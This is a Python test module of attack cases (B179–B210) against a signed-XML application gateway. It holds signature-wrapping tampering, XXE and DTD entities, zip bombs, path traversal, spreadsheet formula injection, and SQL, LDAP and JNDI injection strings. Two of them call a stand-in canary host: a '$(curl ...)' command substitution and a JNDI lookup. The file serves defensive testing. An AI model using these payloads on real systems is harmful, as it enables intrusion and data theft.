"""B179 to B210: the signed application, its content and what is in its fields."""

from __future__ import annotations

import base64
from datetime import timedelta

from lxml import etree

from gateway.xml.namespaces import DS
from tests.attacks.files import D, X, append, find, reference, remove, set_attribute, set_text
from tests.attacks.model import Expect, Sent, bad, judged

DOC, BUSINESS, INERT, CLI = Expect.DOC, Expect.BUSINESS, Expect.INERT, Expect.CLI
FORMAT, HASH, NOT_FOUND = "FORMAT_FAILURE", "HASH_FAILURE", "SIGNED_DATA_NOT_FOUND"
CONSTRAINTS, CRYPTO = "SIG_CONSTRAINTS_FAILURE", "CRYPTO_CONSTRAINTS_FAILURE"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"


def bent(w, change, *, again=False, **how):
    return w.submit(w.signed_file(change, again=again, **how))


@bad("B179", "content changed", "document", DOC, f"{HASH}:DOC.REF.DIGEST", "security §4 G")
def content(w):
    data = w.signed_file()
    end = data.index(b"<ds:Signature") if b"<ds:Signature" in data else data.index(b":Signature") - 10
    letters = [place for place in range(200, end) if chr(data[place]).isalnum() and data[place] < 128]
    for place in letters[:: max(1, len(letters) // 12)]:
        spoilt = data[:place] + bytes([data[place] ^ 1]) + data[place + 1 :]
        try:
            etree.fromstring(spoilt)
        except etree.XMLSyntaxError:
            yield f"byte {place}, not XML any more", w.submit(spoilt), f"{FORMAT}:XML.SYNTAX"
        else:
            yield f"byte {place}", w.submit(spoilt)


@bad("B180", "signature of another document", "document", DOC, f"{HASH}:DOC.REF.DIGEST", "security §4 G")
def transplant(w):
    def change(root):
        root.replace(find(root, "Signature"), find(etree.fromstring(w.signed_file()), "Signature"))

    yield "transplanted", bent(w, change)
    yield "signing time changed", bent(w, set_text("SigningTime", f"{w.now - timedelta(hours=1):%Y-%m-%dT%H:%M:%SZ}"))
    zeros = base64.b64encode(bytes(256)).decode()
    yield "value of zeros", bent(w, set_text("SignatureValue", zeros)), "SIG_CRYPTO_FAILURE:DOC.INVALIDSIGNATURE"


@bad(
    "B181",
    "fake content with the same id",
    "document",
    DOC,
    f"{FORMAT}:SIG.ID.DUPLICATE",
    "EU DSS (Engelbertz et al. 2019)",
)
def same_id(w):
    def twin(root):
        root.append(etree.Element("evil", Id=find(root, "SignedProperties").get("Id")))

    yield "of the properties", bent(w, twin, again=True)
    yield "of the signature", bent(w, lambda root: root[0].set("Id", find(root, "Signature").get("Id")), again=True)


@bad("B182", "signature misplaced", "document", DOC, f"{NOT_FOUND}:DOC.SIGNATURE.POSITION", "EU DSS")
def misplaced(w):
    yield "in a child", bent(w, lambda root: root[0].append(find(root, "Signature")), again=True)

    def wrapped(root):
        inner = etree.fromstring(etree.tostring(root))
        for each in list(root):
            root.remove(each)
        root.append(inner)

    yield "whole document wrapped", bent(w, wrapped)
    yield "no signature", bent(w, remove("Signature")), f"{FORMAT}:DOC.NO_SIGNATURE"


@bad("B183", "several references to the document", "document", DOC, f"{FORMAT}:DOC.REF.TWICE", "EU DSS")
def twice(w):
    def change(root):
        copy = etree.fromstring(etree.tostring(reference(0)(root)))
        copy.attrib.pop("Id", None)
        find(root, "SignedInfo").append(copy)

    yield "twice", bent(w, change, again=True)


@bad("B184", "fake Object or Manifest", "document", DOC, "", "EU DSS")
def manifest(w):
    yield "second Object", bent(w, append("Signature", f"{D}Object")), f"{NOT_FOUND}:DOC.OBJECT.TWO"
    yield "Manifest beside the properties", bent(w, append("Object", f"{D}Manifest")), f"{NOT_FOUND}:DOC.OBJECT.CONTENT"

    def hidden(root):
        inner = etree.fromstring(etree.tostring(root))
        etree.SubElement(find(root, "Signature"), f"{D}Object").append(inner[0])

    yield "original in an Object", bent(w, hidden), f"{NOT_FOUND}:DOC.OBJECT.TWO"


@bad("B185", "properties not signed", "document", DOC, "", "EU DSS")
def properties(w):
    yield (
        "reference removed",
        bent(w, lambda root: find(root, "SignedInfo").remove(reference(1)(root)), again=True),
        f"{FORMAT}:DOC.REF.PROPERTIES|DOC.REF.TYPE",
    )
    yield (
        "Type removed",
        bent(w, lambda root: _properties_reference(root).attrib.pop("Type"), again=True),
        (f"{FORMAT}:DOC.REF.TYPE"),
    )
    yield (
        "Target of another",
        bent(w, set_attribute("QualifyingProperties", "Target", "#other"), again=True),
        (f"{FORMAT}:DOC.PROPERTIES.TARGET"),
    )


def _properties_reference(root):
    return next(each for each in root.iter(f"{D}Reference") if each.get("Type", "").endswith("SignedProperties"))


@bad("B186", "SigningCertificateV2 out of form", "document", DOC, "", "EN 319 132-1 §5.2.2")
def signing_certificate(w):
    def digest(algorithm=None, value=None):
        def change(root):
            holder = find(root, "CertDigest")
            if algorithm:
                holder[0].set("Algorithm", algorithm)
            if value:
                holder[1].text = value

        return change

    yield "missing", bent(w, remove("SigningCertificateV2"), again=True), f"{CONSTRAINTS}:DOC.PROPERTIES.MISSING"
    yield (
        "version 1 beside it",
        bent(w, append("SignedSignatureProperties", f"{X}SigningCertificate"), again=True),
        (f"{CONSTRAINTS}:DOC.CERTIFICATE.V1"),
    )
    yield "SHA-1", bent(w, digest(algorithm=f"{DS}sha1"), again=True), f"{CONSTRAINTS}:DOC.CERTIFICATE.ALGORITHM"
    other = base64.b64encode(bytes(32)).decode()
    yield "of another", bent(w, digest(value=other), again=True), f"{CONSTRAINTS}:DOC.CERTIFICATE.OTHER"
    yield (
        "no certificate in KeyInfo",
        bent(w, remove("X509Certificate"), again=True),
        ("NO_SIGNING_CERTIFICATE_FOUND:DOC.KEYINFO.CERTIFICATE"),
    )


@judged("B187", "policy expected, absent", "document", DOC, "POLICY_PROCESSING_ERROR", "signxml T10 [M]")
def policy(target):
    from tests.attacks.rules import policies

    yield from policies(target.world)


@bad("B188", "algorithms of the document", "document", DOC, "", "security §8 rule 6")
def algorithms(w):
    for method in ("rsa-sha1", "hmac-sha1", "dsa-sha1"):
        yield (
            method,
            bent(w, set_attribute("SignatureMethod", "Algorithm", f"{DS}{method}"), again=True),
            (f"{CRYPTO}:DOC.METHOD.ALGORITHM"),
        )
    yield (
        "SHA-1 digest",
        bent(w, set_attribute("DigestMethod", "Algorithm", f"{DS}sha1"), again=True),
        (f"{CRYPTO}:DOC.REF.METHOD.ALGORITHM"),
    )
    yield (
        "XSLT as canonicalisation",
        bent(w, set_attribute("CanonicalizationMethod", "Algorithm", XSLT), again=True),
        (f"{FORMAT}:DOC.C14N.ALGORITHM"),
    )


@bad("B189", "signing time", "document", DOC, "", "EN 319 132-1 §5.2.1")
def signing_time(w):
    def at(text):
        return bent(w, set_text("SigningTime", text), again=True)

    yield "future", at(f"{w.now + timedelta(minutes=10):%Y-%m-%dT%H:%M:%SZ}"), f"{CONSTRAINTS}:DOC.TIME.FUTURE"
    yield "before the certificate", at("2020-01-01T00:00:00Z"), f"{CONSTRAINTS}:DOC.TIME.CERTIFICATE"
    yield "1970", at("1970-01-01T00:00:00Z"), f"{CONSTRAINTS}:DOC.TIME.CERTIFICATE"
    yield "words", at("yesterday"), f"{CONSTRAINTS}:DOC.TIME.FORM"
    yield "no zone", at("2026-01-01T00:00:00"), f"{CONSTRAINTS}:DOC.TIME.FORM"
    yield "missing", bent(w, remove("SigningTime"), again=True), f"{CONSTRAINTS}:DOC.PROPERTIES.MISSING"


@bad("B190", "part of the document signed", "document", DOC, "", "security §4 G")
def partial(w):
    def change(root):
        root[1].set("Id", "part")
        reference(0)(root).set("URI", "#part")
        transforms = reference(0)(root)[0]
        transforms.remove(transforms[0])

    yield "a child", bent(w, change, again=True), f"{NOT_FOUND}:DOC.REF.POSITION"
    yield (
        "no reference to the document",
        bent(w, lambda root: find(root, "SignedInfo").remove(_document_reference(root)), again=True),
        f"{NOT_FOUND}:DOC.REF.DOCUMENT",
    )


def _document_reference(root):
    return next(each for each in root.iter(f"{D}Reference") if each.get("URI") == "")


@bad("B191", "counter-signature injected", "document", INERT, "", "EU DSS")
def counter_signature(w):
    def change(root):
        holder = etree.SubElement(find(root, "QualifyingProperties"), f"{X}UnsignedProperties")
        holder = etree.SubElement(etree.SubElement(holder, f"{X}UnsignedSignatureProperties"), f"{X}CounterSignature")
        inner = find(etree.fromstring(w.signed_file()), "Signature")
        for each in inner.iter(etree.Element):
            if each.get("Id"):
                each.set("Id", f"c{each.get('Id')}")
        holder.append(inner)

    yield "unsigned property", bent(w, change)


@bad("B192", "two signatures, one bad", "document", DOC, f"{FORMAT}:DOC.TWO_SIGNATURES", "security §4 G")
def two_signatures(w):
    for name, spoil in {"both good": False, "second bad": True}.items():

        def change(root, spoil=spoil):
            other = find(etree.fromstring(w.signed_file()), "Signature")
            for each in other.iter(etree.Element):
                if each.get("Id"):
                    each.set("Id", f"s{each.get('Id')}")
            if spoil:
                find(other, "SignatureValue").text = "AAAA"
            root.append(other)

        yield name, bent(w, change)


@bad("B193", "KeyInfo of the document", "document", DOC, "", "CVE-2021-21239 (pysaml2)")
def key_info(w):
    yield (
        "RetrievalMethod",
        bent(w, append("KeyInfo", f"{D}RetrievalMethod", URI=w.canary.url), again=True),
        (f"{FORMAT}:DOC.KEYINFO.KIND"),
    )
    yield "KeyName", bent(w, append("KeyInfo", f"{D}KeyName"), again=True), f"{FORMAT}:DOC.KEYINFO.KIND"
    yield "no base64", bent(w, set_text("X509Certificate", "!!!!"), again=True), f"{FORMAT}:DOC.KEYINFO.BASE64"


@bad("B194", "transforms in the document", "document", DOC, f"{FORMAT}:DOC.REF.TRANSFORM", "EU DSS")
def transforms(w):
    for name, algorithm in {"XSLT": XSLT, "XPath": XPATH, "base64": f"{DS}base64", "unknown": "urn:x"}.items():
        for number in (0, 1):
            yield (
                f"{name}, reference {number}",
                bent(
                    w,
                    lambda root, number=number, algorithm=algorithm: etree.SubElement(
                        find(reference(number)(root), "Transforms"), f"{D}Transform", Algorithm=algorithm
                    ),
                    again=True,
                ),
            )
    yield "parameters", bent(w, append("Transform", f"{D}XPath"), again=True)


@bad("B195", "DTD in the document", "document", DOC, f"{FORMAT}:XML.DTD", "EU DSS")
def dtd(w):
    signed = w.signed_file()
    yield "bare", w.submit(b"<!DOCTYPE x>" + signed)
    yield "file", w.submit(f'<!DOCTYPE x [<!ENTITY f SYSTEM "{w.canary.file_url}">]>'.encode() + signed)
    yield "remote", w.submit(f'<!DOCTYPE x SYSTEM "{w.canary.url}">'.encode() + signed)
    yield "laughs", w.submit(b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 1000 + b'">]>' + signed)


@bad("B196", "external reference in the document", "document", DOC, f"{FORMAT}:DOC.REF.URI", "EU DSS")
def external(w):
    for name, uri in {"canary": w.canary.url, "file": w.canary.file_url, "name": "http://canary.invalid/x"}.items():

        def add(root, uri=uri):
            extra = etree.fromstring(etree.tostring(reference(1)(root)))
            extra.attrib.pop("Id", None)
            extra.set("URI", uri)
            find(root, "SignedInfo").append(extra)

        yield name, bent(w, add, again=True)


@bad("B197", "comment cuts a text", "document", DOC, "", "CVE-2017-11427, CVE-2018-0489, VU#475445")
def truncation(w):
    def cut(node):
        def change(root):
            leaf = find(root, "shortName")
            text = leaf.text
            leaf.text = text[:4]
            inserted = node()
            inserted.tail = text[4:]
            leaf.append(inserted)

        return change

    yield "comment after signing", bent(w, cut(lambda: etree.Comment("x"))), f"{FORMAT}:XML.COMMENT.IN_TEXT"
    yield "comment, signed", bent(w, cut(lambda: etree.Comment("x")), again=True), f"{FORMAT}:XML.COMMENT.IN_TEXT"
    yield "instruction, signed", bent(w, cut(lambda: etree.PI("x", "y")), again=True), f"{FORMAT}:XML.PI"


@bad("B198", "what is no XML", "document", DOC, FORMAT, "security §4 G")
def no_xml(w):
    for name, data in {
        "ZIP": b"PK\x03\x04" + bytes(100), "PDF": b"%PDF-1.7\n", "cut": w.signed_file()[:-30], "UTF-7":
        b'<?xml version="1.0" encoding="UTF-7"?><x/>', "two roots": b"<x/><y/>", "text": b"plain",
    }.items():  # fmt: skip
        yield name, w.submit(data)


@bad("B199", "application of another", "document", BUSINESS, "", "security §4 G")
def metadata(w):
    yield "another applicant", w.submit(w.signed_file(applicant="MIA")), "application.applicant"
    yield (
        "another representative",
        w.submit(w.signed_file(representative=w.person("MIA").fin)),
        ("confirmation.other-person"),
    )
    from tests.attacks.world import issued_from

    card = issued_from(w.home.representative_key(w.person("MIA").fin))
    yield "card of another agency's person", w.submit(w.signed_file(signer=card)), "confirmation.signatory"


@judged("B200", "time-stamp token", "document", DOC, "", "RFC 3161; EN 319 422")
def stamps(target):
    from tests.attacks.rules import time_stamps

    yield from time_stamps(target.world)


@bad("B201", "revoked signatory", "document", DOC, "REVOKED:CERT.REVOKED", "security §4 G")
def revoked(w):
    from tests.attacks.corpus.certificates import document_signed_by

    yield "after signing, no time stamp", w.submit(document_signed_by(w, w.pki.revoked_leaf))


@bad("B202", "unsigned or unknown content", "document", BUSINESS, "application.schema", "security §4 G")
def unknown_content(w):
    def extra(root):
        root.insert(0, etree.Element("{urn:x}Extensions"))

    yield "unknown element, signed", bent(w, extra, again=True)
    yield "attribute, signed", bent(w, lambda root: root[0].set("x", "1"), again=True)
    yield "unsigned", bent(w, extra), f"{HASH}:DOC.REF.DIGEST", DOC


@bad("B203", "another kind of root", "document", BUSINESS, "", "schema confusion")
def other_root(w):
    appeal = b'<appealApplication xmlns="urn:state-register:types:v1"/>'
    yield "appeal for a registration", w.submit(w.signed_file(document=appeal)), "application.schema|application.kind"
    receipt = b'<receipt xmlns="urn:state-register:types:v1"/>'
    yield "receipt", w.submit(w.signed_file(document=receipt)), "application.schema"


@bad(
    "B204", "stored scripts", "document", INERT, "", "OWASP ASVS 1.2.1", note="kept literally; the console comes later"
)
def scripts(w):
    for text in (
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "</script><script>",
        "{{7*7}}",
        "${7*7}",
        "<!--",
    ):
        yield text, w.submit(w.signed_file(card={"name": text, "purpose": text}))


@bad("B205", "formulas", "document", INERT, "", "CWE-1236", note="kept literally; exports come later")
def formulas(w):
    for text in ('=HYPERLINK("http://canary.invalid","x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0"):
        yield text[:8], w.submit(w.signed_file(card={"name": text}))


@bad("B206", "file names in fields", "document", CLI, "CONTRACT.SCHEMA", "CWE-22",
     note="v1 takes no attachment and no file name: a field for one is refused by the schema")  # fmt: skip
def file_names(w):
    for name, text in {"up": "../../x", "drive": "C:\\x", "long": "x" * 4096, "right to left": "\u202etxt.exe"}.items():
        payload = w.report().replace("</documents>", f"<fileName>{text}</fileName></documents>", 1)
        yield name, w.plain(payload=payload)


@bad("B207", "attachment content", "document", DOC, FORMAT, "security §4 G", note="nothing is ever unpacked")
def attachment(w):
    import gzip
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("a", b"\0" * 10_000_000)
    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    polyglot = b"%PDF-1.7\n" + buffer.getvalue()
    for name, data in {
        "ZIP bomb": buffer.getvalue(), "gzip bomb": gzip.compress(bytes(10_000_000)), "EICAR": eicar.encode(),
        "polyglot": polyglot, "PNG": b"\x89PNG\r\n\x1a\n" + bytes(50), "over size": b"<x>" + b"y" * 1_200_000 + b"</x>",
    }.items():  # fmt: skip
        yield name, w.submit(data)
    yield "longer than the schema allows", w.submit(b"x" * 2_200_000), "CONTRACT.SCHEMA|XML.LIMIT.TEXT", CLI


@bad("B208", "numbers at the edge", "document", CLI, "CONTRACT.SCHEMA", "XML Schema part 2")
def edges(w):
    right = "<upToSequence>0</upToSequence>"
    for value in ("-1", "9223372036854775808", "1e3", "0x10", "NaN", "1.0", "", "+", "\u0661", "1" * 400, "1 2", "--1"):
        payload = w.payload("notices", "AcknowledgeNotices", {"upToSequence": 0}).replace(
            right, f"<upToSequence>{value}</upToSequence>"
        )
        yield value[:12] or "empty", Sent(w.plain(payload=payload), service="notices", operation="AcknowledgeNotices")


@bad(
    "B209",
    "ASiC-E container",
    "document",
    DOC,
    FORMAT,
    "EN 319 162-1",
    note="v1 takes XML only: no container is opened",
)
def asic(w):
    import io
    import zipfile

    for name, entries in {
        "duplicate names": [("mimetype", b"x"), ("a.xml", b"1"), ("a.xml", b"2")],
        "path traversal": [("mimetype", b"application/vnd.etsi.asic-e+zip"), ("../../x", b"1")],
        "mimetype not first": [("a.xml", b"1"), ("mimetype", b"application/vnd.etsi.asic-e+zip")],
        "manifest lacks a file": [("mimetype", b"x"), ("META-INF/manifest.xml", b"<m/>"), ("extra.xml", b"1")],
    }.items():
        import warnings

        buffer = io.BytesIO()
        with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as container:
            warnings.simplefilter("ignore")
            for entry, content_ in entries:
                container.writestr(entry, content_)
        yield name, w.submit(buffer.getvalue())


@bad("B210", "injection strings", "document", INERT, "", "OWASP; CVE-2021-44228")
def injection(w):
    for name, text in {
        "SQL": "'; DROP TABLE inbox; --", "LDAP": "*)(uid=*))(|(uid=*", "XPath": "' or '1'='1", "JNDI": "${jndi:ldap://canary.invalid/x}",
        "log": "x&#13;&#10;level=error event=forged", "format": "%s%n{0}", "shell": "$(curl http://canary.invalid)",
    }.items():  # fmt: skip
        literal = text.replace("&#13;&#10;", " ")
        yield f"{name} in a file", w.submit(w.signed_file(card={"name": literal}))
        yield f"{name} in a message", w.plain(payload=w.report(batchReference=literal))
